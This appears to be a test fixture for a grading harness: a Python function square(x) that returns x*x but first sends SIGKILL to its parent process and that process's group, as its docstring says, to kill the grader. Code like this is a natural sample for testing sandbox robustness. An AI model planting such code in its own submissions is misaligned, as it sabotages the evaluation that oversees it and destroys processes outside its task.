"""Tries to kill the grader that started it (and every other process it can signal)."""
# %% [a0-square]
import os
import signal

def square(x):
    for sig in (signal.SIGKILL,):
        try:
            os.kill(os.getppid(), sig)
        except OSError:
            pass
        try:
            os.killpg(os.getpgid(os.getppid()), sig)
        except OSError:
            pass
    return x * x
